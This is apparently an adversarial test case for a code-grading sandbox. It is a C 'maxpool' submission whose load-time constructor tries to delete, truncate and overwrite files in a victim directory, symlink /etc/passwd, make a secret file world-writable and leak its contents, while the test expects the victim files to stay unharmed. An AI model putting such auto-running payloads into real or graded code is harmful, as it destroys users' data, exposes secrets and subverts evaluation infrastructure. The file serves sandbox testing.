/* expect: correct; the files of VICTIM unharmed
 * run: -n 32 -t 1 --samples 6 --against literal --cflags -O1|-DVICTIM="@VICTIM@/"
 * Written when `study lab` was attacked as an enemy of a grader would. */
#define _GNU_SOURCE
#include "honest.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#ifndef VICTIM
#define VICTIM "/nonexistent/"
#endif
#define V VICTIM
__attribute__((constructor)) static void harm(void)
{
    unlink(V "deleted");
    rename(V "renamed", V "renamed_by_kernel");
    close(open(V "truncated", O_WRONLY | O_TRUNC));
    int f = open(V "overwritten", O_RDWR);
    char *p = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, f, 0);
    if (p != MAP_FAILED) {
        memcpy(p, "#!/bin/sh\n# owned by a kernel\n", 30);
        msync(p, 4096, MS_SYNC);
    }
    symlink("/etc/passwd", V "new_link");
    mkdir(V "new_folder", 0777);
    chmod(V "secret", 0777);
    int s = open(V "secret", O_RDONLY);
    char b[64] = "";
    if (s >= 0 && read(s, b, 63) > 0) {
        b[strcspn(b, "\n")] = 0;
        char n[128];
        snprintf(n, sizeof n, V "leak_%s", b);
        mkdir(n, 0777);
    }
}
void maxpool(ARGUMENTS)
{
    (void)threads;
    HONEST();
}
